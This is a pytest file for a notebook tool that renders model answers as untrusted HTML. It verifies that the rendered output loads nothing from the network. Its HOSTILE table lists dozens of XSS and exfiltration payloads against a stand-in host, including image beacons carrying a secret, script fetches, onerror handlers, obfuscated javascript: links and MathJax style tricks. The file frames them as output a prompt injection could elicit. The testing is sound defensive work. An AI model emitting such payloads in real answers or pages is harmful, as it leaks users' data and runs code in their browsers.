"""A model's answer is untrusted text (lfwb/untrusted.py): whatever a face shows of it loads
nothing from the network. Images become lines naming their URL, raw HTML shows as text, fenced
code keeps its content, links stay links. The browser's view is tests/browser/test_untrusted_lab.py.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from conftest import run_ok

from fixtures.scripted import Fail, words
from lfwb.errors import GenerationError
from lfwb.pipelines.artifacts import extract_artifacts
from lfwb.untrusted import MARKDOWN_LIMIT, NO_MATH, answer_html, text_html

FENCE = "`" * 3

# Each case is an answer a prompt injection could ask for. None may load anything when shown.
HOSTILE = {
    "inline image": "![](https://evil.example/?q=secret)",
    "image with title": '![chart](https://evil.example/t "a title")',
    "reference image": "![chart][r]\n\n[r]: https://evil.example/ref",
    "collapsed reference image": "![r][]\n\n[r]: https://evil.example/collapsed",
    "shortcut reference image": "![r]\n\n[r]: https://evil.example/shortcut",
    "image with nested brackets": "![a [nested] b](https://evil.example/nested)",
    "image in a link": "[![x](https://evil.example/img)](https://ok.example/link)",
    "image in a table": "| a | b |\n|---|---|\n| ![t](https://evil.example/table) | <img src=https://evil.example/t2> |",
    "image in a heading and a list": "# ![h](https://evil.example/h)\n\n- ![l](https://evil.example/l)",
    "image in a quote": "> > > ![q](https://evil.example/deep)",
    "bracketed destination": "![x](<https://evil.example/angle bracket>)",
    "data URI image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "img tag": "<img src=https://evil.example/i>",
    "uppercase IMG": '<IMG SRC="https://evil.example/I">',
    "img over two lines": "<img\nsrc=https://evil.example/newline>",
    "img with a slash": "<img/src=https://evil.example/slash>",
    "onerror": "<img src=x onerror=\"fetch('https://evil.example/e')\">",
    "iframe": '<iframe src="https://evil.example/f"></iframe>',
    "script": "<script>fetch('https://evil.example/s')</script>",
    "style url": "<style>body{background:url(https://evil.example/st)}</style>",
    "style attribute": '<p style="background:url(https://evil.example/p)">x</p>',
    "link stylesheet": "<link rel=stylesheet href=https://evil.example/l>",
    "video poster": "<video poster=https://evil.example/v></video>",
    "audio and source": "<audio><source src=https://evil.example/a></audio>",
    "svg image": '<svg><image href="https://evil.example/svg"/></svg>',
    "svg onload": "<svg onload=\"fetch('https://evil.example/o')\">",
    "object": "<object data=https://evil.example/o></object>",
    "embed": "<embed src=https://evil.example/embed>",
    "form": "<form action=https://evil.example/form><button>go</button></form>",
    "input image": "<input type=image src=https://evil.example/input>",
    "base": "<base href=https://evil.example/>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "table background": "<table background=https://evil.example/bg><tr><td>x</td></tr></table>",
    "markdown inside an HTML block": "<div>\n\n![](https://evil.example/in-block)\n\n</div>",
    "html comment": "<!-- <img src=https://evil.example/comment> -->",
    "named entities": "&lt;img src=https://evil.example/entity&gt;",
    "numeric entities": "&#60;img src=https://evil.example/num&#62;",
    "raw anchor": '<a href="https://evil.example/raw">raw</a>',
    "javascript link": "[click](javascript:fetch('https://evil.example/js'))",
    "uppercase javascript link": "[click](JAVASCRIPT:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript and file links": "[a](vbscript:x) [b](file:///etc/passwd)",
    # a scheme hidden from a plain string test: browsers read entities, drop tabs and ignore case
    "mixed-case javascript link": "[click](JaVaScRiPt:alert(1))",
    "javascript link with a tab": "[click](<java\tscript:alert(1)>) [ref]\n\n[ref]: <java\nscript:alert(2)>",
    "javascript link in entities": "[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(2)) [c](jav&#x09;ascript:x)",
    "javascript link after a control character": "[click](<\x01javascript:alert(1)>) <\x7fjavascript:alert(2)>",
    "javascript reference definition": "[click]\n\n[click]: JAVASCRIPT:alert(1)",
    "quotes in a title": '[x](https://ok.example "a\\" onmouseover=\\"fetch(1)")',
    "mathjax style": "$\\style{background-image:url(https://evil.example/m)}{x}$",
    "mathjax bbox": "$$\\bbox[background:url(https://evil.example/b)]{y}$$",
    "unclosed fence": f"{FENCE}html\n<img src=https://evil.example/unclosed>\n",
    "fence in a list item": f"- item\n  {FENCE}\n  code <b>\n![](https://evil.example/after)",
    "backslash-escaped backtick": "\\`<img src=https://evil.example/bs>`",
    "backtick in a URL": "https://a.example/`b <img src=https://evil.example/url>`",
}

TAGS = {
    "div",
    "p",
    "span",
    "code",
    "pre",
    "a",
    "em",
    "strong",
    "b",
    "i",
    "s",
    "small",
    "hr",
    "br",
    "blockquote",
    "details",
    "summary",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
}
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.I)


class _Elements(HTMLParser):
    """Every element of an HTML string with its attributes, as a browser's parser reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def elements(shown: str) -> _Elements:
    parser = _Elements()
    parser.feed(shown)
    parser.close()
    return parser


def assert_loads_nothing(shown: str) -> None:
    """No element that fetches, no attribute that could (src, url(), an event), links to the web only."""
    for tag, attrs in elements(shown).found:
        assert tag in TAGS, f"<{tag}> in {shown!r}"
        for name, value in attrs.items():
            assert name in {"class", "href", "target", "rel", "title", "style", "start"}, f"{name}= on <{tag}>"
            if name == "style":  # lfwb's own layout only: nothing that names a resource
                assert not re.search(r"url|image|import|expression|\\", value or "", re.I), f"style={value!r}"
            if name == "href":
                url = re.sub(r"[\x00-\x20]", "", value or "")
                assert not SCHEME.match(url) or re.match(r"(https?|mailto):", url, re.I), f"href={value!r}"


def visible(shown: str) -> str:
    return "".join(elements(shown).text)


@pytest.mark.parametrize("answer", list(HOSTILE.values()), ids=list(HOSTILE))
def test_a_hostile_answer_renders_to_html_that_loads_nothing(answer):
    shown = answer_html(answer)
    assert_loads_nothing(shown)
    assert "<img" not in shown.lower()
    outer = elements(shown).found[0]
    assert outer == ("div", {"class": f"lfwb-answer {NO_MATH}"})  # MathJax leaves it as text
    assert "\n" not in shown  # a Markdown reader of the notebook (nbconvert) sees one HTML block


def test_images_become_lines_that_name_their_url():
    shown = answer_html(HOSTILE["reference image"] + "\n\nand ![](https://evil.example/?q=secret)")
    assert visible(shown).split("\n")[0] == "🖼 chart (image not loaded: https://evil.example/ref)"
    assert "🖼 (image not loaded: https://evil.example/?q=secret)" in visible(shown)
    linked = answer_html(HOSTILE["image in a link"])
    assert (
        '<a href="https://ok.example/link"' in linked
        and "🖼 x (image not loaded: https://evil.example/img)" in visible(linked)
    )
    long = answer_html(f"![big](https://evil.example/{'a' * 500})")
    assert "(image not loaded: https://evil.example/aaa" in visible(long) and len(visible(long)) < 260


@pytest.mark.parametrize("name", ["img tag", "iframe", "script", "style url", "svg image", "form", "raw anchor"])
def test_raw_html_is_shown_as_the_text_it_is(name):
    assert HOSTILE[name] in visible(answer_html(HOSTILE[name]))


def test_entities_and_comments_show_as_text_too():
    assert visible(answer_html(HOSTILE["named entities"])).strip() == "<img src=https://evil.example/entity>"
    assert visible(answer_html(HOSTILE["html comment"])).strip() == HOSTILE["html comment"]


CODE = {
    "python": f'Here:\n\n{FENCE}python\nhtml = "<img src=https://evil.example/x>"\nprint(f"![a]({{url}})")\n{FENCE}\n',
    "tilde": "~~~jsx\nexport default () => <img src={src} onError={() => fetch(u)} />\n~~~",
    "longer fence": f"````md\n{FENCE}\n![](https://evil.example/in-md)\n{FENCE}\n````",
    "indented": f"  {FENCE}html\n  <script>\n    alert(1)\n  </script>\n  {FENCE}",
    "unclosed": HOSTILE["unclosed fence"],
    "entities kept": f"{FENCE}\n&lt;b&gt; &amp; \\n \\` <!-- c -->\n{FENCE}",
    "blank lines inside": f"{FENCE}css\n.a {{ background: url(x.png) }}\n\n\n.b {{}}\n{FENCE}",
    "markdown after a blank line": f"{FENCE}md\nx\n\n![](https://evil.example/code-blank)\n{FENCE}",
}


@pytest.mark.parametrize("answer", list(CODE.values()), ids=list(CODE))
def test_fenced_code_keeps_its_content_byte_for_byte(answer):
    shown = answer_html(answer)
    assert_loads_nothing(shown)
    blocks = re.findall(r"<pre><code[^>]*>(.*?)</code></pre>", shown, re.S)
    assert [html.unescape(b) for b in blocks] == [a.content for a in extract_artifacts(answer)]


def test_readable_markdown_stays_readable():
    answer = (
        "# Plan\n\nSome *emphasis*, **strong** and `<Button/>` code.\n\n1. first\n2. second\n\n"
        "- [docs](https://docs.example/a?b=1) and <https://auto.example/x>\n\n"
        "| col | n |\n|-----|--:|\n| a | 1 |\n\n> quoted ~~struck~~"
    )
    shown = answer_html(answer)
    assert_loads_nothing(shown)
    for part in (
        "<h1>Plan</h1>",
        "<em>emphasis</em>",
        "<strong>strong</strong>",
        "<code>&lt;Button/&gt;</code>",
        "<ol>&#10;<li>first</li>",
        '<a href="https://docs.example/a?b=1" target="_blank" rel="noopener noreferrer nofollow">docs</a>',
        '<a href="https://auto.example/x"',
        "<th>col</th>",
        '<td style="text-align:right">1</td>',
        "<blockquote>",
        "<s>struck</s>",
    ):
        assert part in shown, part


def test_links_to_anything_but_the_web_are_text():
    for name in (
        "javascript link",
        "uppercase javascript link",
        "javascript autolink",
        "data link",
        "vbscript and file links",
    ):
        shown = answer_html(HOSTILE[name])
        assert "<a " not in shown, name


def test_a_huge_answer_is_shown_as_escaped_text():
    answer = "![x](https://evil.example/h) <img src=https://evil.example/h2>\n" + "x" * MARKDOWN_LIMIT
    shown = answer_html(answer)
    assert_loads_nothing(shown)
    assert visible(shown).startswith("![x](https://evil.example/h) <img src=https://evil.example/h2>")


def test_headings_notes_and_plain_text_are_escaped():
    shown = answer_html("ok", heading="step · <img src=https://evil.example/h>", note="failed: <script>x</script>")
    assert_loads_nothing(shown)
    assert "<img src=https://evil.example/h>" in visible(shown) and "<script>x</script>" in visible(shown)
    plain = text_html("<iframe src=https://evil.example/t>", style="color:#b00")
    assert_loads_nothing(plain)
    assert visible(plain) == "<iframe src=https://evil.example/t>"


# -- every face --------------------------------------------------------------------------------

ANSWER = "\n\n".join(
    [
        HOSTILE["inline image"],
        HOSTILE["reference image"],
        HOSTILE["img tag"],
        HOSTILE["script"],
        HOSTILE["style url"],
        HOSTILE["image in a table"],
        HOSTILE["mathjax style"],
        CODE["python"],
        CODE["markdown after a blank line"],
    ]
)


def assert_output_loads_nothing(bundles: list[dict]) -> None:
    """Every MIME type a face sent: HTML that loads nothing, or plain text (shown as text anywhere)."""
    assert bundles
    for data in bundles:
        assert set(data) <= {"text/plain", "text/html", "application/vnd.jupyter.widget-view+json"}, set(data)
        if "text/html" in data:
            assert_loads_nothing(data["text/html"])
            assert NO_MATH in data["text/html"] and "\n" not in data["text/html"]  # one HTML block, always


def formatted(ip, value) -> dict:
    """What a cell that returned `value` shows (its display formatter's bundle)."""
    return ip.display_formatter.format(value)[0]


def test_generate_shows_a_hostile_answer_safely(ip, scripted, published):
    scripted.model("fake", words(ANSWER))
    result = run_ok(ip, "%%lfw generate -m fake\nShow me.")
    assert result.text == ANSWER.rstrip()
    assert_output_loads_nothing([m["data"] for m in published])
    final = published[-1]["data"]["text/html"]
    assert "🖼 (image not loaded: https://evil.example/?q=secret)" in visible(final)
    assert 'html = "<img src=https://evil.example/x>"' in visible(final)
    run_ok(ip, "%%lfw generate -m fake -f code\nShow me.")
    assert_output_loads_nothing([published[-1]["data"]])


def test_chat_shows_a_hostile_answer_and_its_sources_safely(ip, scripted, published):
    scripted.model("fake", words(ANSWER))
    scripted.wb.add_context(text="Buttons are blue.", name="<img src=https://evil.example/ctx>")
    run_ok(ip, "%%lfw chat -m fake --rag\nWhat colour are buttons?")
    assert_output_loads_nothing([m["data"] for m in published])
    assert "sources: [1] <img src=https://evil.example/ctx>" in visible(published[-1]["data"]["text/html"])
    history = run_ok(ip, "%lfw chat history")
    assert_output_loads_nothing([formatted(ip, history)])


def test_compare_shows_hostile_answers_and_errors_safely(ip, scripted, published):
    scripted.model("fake", words(ANSWER))
    scripted.model("broken", [Fail(GenerationError("<img src=https://evil.example/err> $\\style{x}{y}$"))])
    run_ok(ip, "%%lfw compare -m fake,broken\nCompare.")
    assert_output_loads_nothing([m["data"] for m in published])
    assert "<img src=https://evil.example/err>" in visible(published[-1]["data"]["text/html"])


def test_a_pipeline_run_shows_each_step_and_its_result_safely(ip, scripted, published):
    scripted.model("fake", words(ANSWER))
    scripted.wb.save_pipeline({"steps": [{"name": "answer", "model": "fake", "prompt": "{input}"}]}, name="leaky")
    result = run_ok(ip, "%lfw run leaky --input go")
    assert_output_loads_nothing([m["data"] for m in published] + [formatted(ip, result)])
    step = [m["data"]["text/html"] for m in published if "text/html" in m["data"]][-1]
    assert "answer · fake · done" in visible(step) and "🖼 chart (image not loaded" in visible(step)


def test_runs_show_and_revisions_show_a_hostile_answer_safely(ip, scripted, published):
    scripted.model("fake", words(ANSWER))
    result = run_ok(ip, "%%lfw generate -m fake\nShow me.")
    runs = run_ok(ip, "%lfw runs")
    shown = run_ok(ip, f"%lfw show {result.run_id}")
    assert_output_loads_nothing([formatted(ip, runs), formatted(ip, shown)])
    card = scripted.wb.store.add_artifacts(
        scripted.wb.project_id,
        result.run_id,
        [{"content": "export default () => <div/>\n", "kind": "jsx", "language": "jsx", "filename": "Card.jsx"}],
    )[0]
    scripted.model("fake", words(ANSWER))
    before = len(published)
    ip.run_cell(f'%lfw revise {card["id"]} -m fake "make it red"')  # no component in it: no version, still shown
    assert_output_loads_nothing([m["data"] for m in published[before:]])


def test_the_chat_panel_shows_a_hostile_answer_safely(ip, scripted):
    scripted.model("fake", words(ANSWER))
    panel = run_ok(ip, "%lfw panel chat --session leaky")
    panel.model_choice.value = "fake"
    pieces: list[str] = []
    panel.answer.observe(lambda change: pieces.append(change["new"]), names="value")
    panel.input.value = "<img src=https://evil.example/typed>"
    panel.send_button.click()
    panel.handle.wait()
    assert panel.handle.done and panel.reply.status == "done"
    for value in [*pieces, panel.messages.value, panel.message.value]:
        assert_loads_nothing(value)
    assert "🖼 (image not loaded: https://evil.example/?q=secret)" in visible(panel.messages.value)
    assert "<img src=https://evil.example/typed>" in visible(panel.messages.value)
    panel.close()


def test_the_pipeline_panel_shows_a_hostile_error_safely(ip, scripted):
    scripted.model("broken", [Fail(GenerationError("<img src=https://evil.example/status> $\\style{x}{y}$"))])
    scripted.wb.save_pipeline({"steps": [{"name": "a", "model": "broken", "prompt": "{input}"}]}, name="leaky")
    panel = run_ok(ip, "%lfw panel pipeline")
    panel.choice.value, panel.input.value = "leaky", "go"
    panel.run_button.click()
    panel.handle.wait()
    assert panel.handle.done
    for value in (panel.rows["a"].status.value, panel.message.value, panel.artifacts.value):
        assert_loads_nothing(value)
    assert NO_MATH in panel.rows["a"].status.value
    assert "<img src=https://evil.example/status>" in visible(panel.rows["a"].status.value)
    panel.close()


def test_nbconvert_exports_a_hostile_answer_without_loading_it(ip, scripted, published):
    """A saved notebook's outputs, exported to HTML and to Markdown (then read by a Markdown
    renderer that allows HTML, as GitHub's does): the answer's URLs are never an element's source."""
    import nbformat
    from markdown_it import MarkdownIt
    from nbconvert import HTMLExporter, MarkdownExporter

    scripted.model("fake", words(ANSWER))
    result = run_ok(ip, "%%lfw generate -m fake\nShow me.")
    shown = run_ok(ip, f"%lfw show {result.run_id}")
    outputs = [
        nbformat.v4.new_output("display_data", data=published[-1]["data"]),
        nbformat.v4.new_output("execute_result", data=formatted(ip, shown), execution_count=2),
    ]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("%%lfw generate", outputs=outputs)])
    page, _ = HTMLExporter().from_notebook_node(notebook)
    markdown, _ = MarkdownExporter().from_notebook_node(notebook)
    for exported in (page, MarkdownIt("commonmark", {"html": True}).render(markdown)):
        sources = [(tag, v) for tag, attrs in elements(exported).found for v in attrs.values() if "evil" in (v or "")]
        assert sources == []
    assert "🖼 (image not loaded: https://evil.example/?q=secret)" in visible(page)
